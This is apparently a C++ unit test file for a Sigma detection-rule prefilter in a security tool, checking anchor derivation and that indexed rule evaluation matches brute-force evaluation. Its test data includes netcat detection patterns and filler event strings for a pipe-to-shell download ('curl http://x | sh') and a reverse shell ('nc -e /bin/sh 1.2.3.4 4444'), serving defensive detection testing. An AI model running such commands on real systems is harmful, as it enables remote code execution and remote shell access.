// The rule prefilter: anchors are derived correctly, and evaluating through
// the index gives exactly what evaluating every rule gives.
#include <fstream>
#include <sstream>

#include "rule_compiler.hpp"
#include "rule_index.hpp"
#include "sigma_test_util.hpp"

using namespace sigma_test;
using vigil::behavior::sigma::Anchor;
using vigil::behavior::sigma::compile_rule;
using vigil::behavior::sigma::CompiledRule;
using vigil::behavior::sigma::rule_anchors;

namespace {

std::unique_ptr<CompiledRule> compile(std::string_view detection) { return compile_rule(rule_yaml(detection), "t"); }

std::vector<std::string> anchor_literals(std::string_view detection) {
    auto a = rule_anchors(*compile(detection));
    if (!a) return {"<none>"};
    std::vector<std::string> out;
    for (const auto& x : *a)
        out.push_back(std::string(vigil::behavior::sigma::field_name(x.field)) + ":" +
                      (x.kind == Anchor::Kind::Exact ? "=" : x.kind == Anchor::Kind::Prefix ? "^" : "$") + x.literal);
    return out;
}

}  // namespace

TEST_CASE("behavior_sigma_index: anchors come from a necessary literal test") {
    using V = std::vector<std::string>;
    CHECK(anchor_literals("    s:\n        Image|endswith: ['/NC', '/ncat']\n        CommandLine|contains: ' -e '\n"
                          "    condition: s\n") == V{"Image:$/nc", "Image:$/ncat"});
    // The smallest necessary set wins.
    CHECK(anchor_literals("    a:\n        Image|endswith: ['/a', '/b', '/c']\n    b:\n        User: root\n"
                          "    condition: a and b\n") == V{"User:=root"});
    // OR needs every branch anchored.
    CHECK(anchor_literals("    a:\n        Image|startswith: '/tmp/'\n    b:\n        Image: '/bin/x'\n"
                          "    condition: a or b\n") == V{"Image:^/tmp/", "Image:=/bin/x"});
    CHECK(anchor_literals("    a:\n        Image|startswith: '/tmp/'\n    b:\n        CommandLine|contains: x\n"
                          "    condition: a or b\n") == V{"<none>"});
    // A list of maps needs every alternative anchored.
    CHECK(anchor_literals("    s:\n        - Image: '/bin/a'\n        - Image|endswith: '/b'\n    condition: s\n") ==
          V{"Image:=/bin/a", "Image:$/b"});
    // `all` values: one literal is enough.
    CHECK(anchor_literals("    s:\n        CommandLine|startswith|all: ['ab', 'abc']\n    condition: s\n") ==
          V{"CommandLine:^ab"});
    // Negations, keywords, regexes, cased values, neq and wildcards in the middle give none.
    CHECK(anchor_literals("    s:\n        Image: '/bin/a'\n    condition: not s\n") == V{"<none>"});
    CHECK(anchor_literals("    k:\n        - evil\n    condition: k\n") == V{"<none>"});
    CHECK(anchor_literals("    s:\n        Image|re: 'a'\n    condition: s\n") == V{"<none>"});
    CHECK(anchor_literals("    s:\n        Image|cased: '/bin/A'\n    condition: s\n") == V{"<none>"});
    CHECK(anchor_literals("    s:\n        Image|neq: '/bin/a'\n    condition: s\n") == V{"<none>"});
    CHECK(anchor_literals("    s:\n        Image: '/bin/*/x'\n    condition: s\n") == V{"<none>"});
    CHECK(anchor_literals("    s:\n        Image|endswith: ['/a', '/b*c']\n    condition: s\n") == V{"<none>"});
}

TEST_CASE("behavior_sigma_index: indexed evaluation equals evaluating every rule") {
    // Every corpus and default rule, compiled directly for the brute-force side.
    std::vector<std::unique_ptr<CompiledRule>> all;
    Detector d;
    std::vector<std::filesystem::path> dirs;
    auto corpus = std::filesystem::path(VIGIL_CORPUS_DIR) / "sigma";
    for (const char* sub : {"rules", "rules-emerging-threats", "rules-threat-hunting"}) dirs.push_back(corpus / sub);
    d.load(vigil::behavior::sigma::LoadOptions{dirs, true});
    for (const auto& b : vigil::behavior::sigma::builtin_rules()) all.push_back(compile_rule(b.yaml, b.name));
    for (const auto& dir : dirs)
        for (const auto& e : std::filesystem::recursive_directory_iterator(dir))
            if (e.path().extension() == ".yml") {
                std::ifstream in(e.path());
                std::stringstream ss;
                ss << in.rdbuf();
                all.push_back(compile_rule(ss.str(), e.path().string()));
            }
    REQUIRE(all.size() == d.rule_count());

    // Events that satisfy each rule's anchors (so the prefilter lets them
    // through), mixed with ordinary values, for every category.
    std::vector<SigmaEvent> events;
    const std::string_view fillers[] = {"/usr/bin/python3", "bash -c curl http://x | sh", "/tmp/x", "root",
                                        "nc -e /bin/sh 1.2.3.4 4444", "/etc/cron.d/job"};
    std::size_t k = 0;
    for (const auto& r : all) {
        if (!r->category) continue;
        auto anchors = rule_anchors(*r);
        SigmaEvent e(*r->category);
        for (std::size_t f = 0; f < vigil::behavior::sigma::kFieldCount; ++f)
            e.set(static_cast<FieldId>(f), fillers[(k + f) % std::size(fillers)]);
        if (anchors)
            for (const auto& a : *anchors) {
                if ((k++ % 3) != 0) continue;
                std::string v = a.kind == Anchor::Kind::Exact    ? a.literal
                                : a.kind == Anchor::Kind::Prefix ? a.literal + " -x"
                                                                 : "/opt" + a.literal;
                e.set(a.field, v);
            }
        events.push_back(std::move(e));
        ++k;
    }
    std::size_t matched_events = 0;
    for (const auto& e : events) {
        std::vector<std::string> brute, indexed;
        for (const auto& r : all)
            for (auto c : vigil::behavior::sigma::rule_buckets_for(e.category()))
                if (r->category == c && r->matches(e)) brute.push_back(r->info->id);
        for (const auto& m : d.evaluate(e)) indexed.push_back(m.rule->id);
        std::sort(brute.begin(), brute.end());
        std::sort(indexed.begin(), indexed.end());
        CHECK(brute == indexed);
        matched_events += !brute.empty();
    }
    MESSAGE(events.size() << " events, " << matched_events << " matched some rule");
    CHECK(matched_events > events.size() / 4);
}
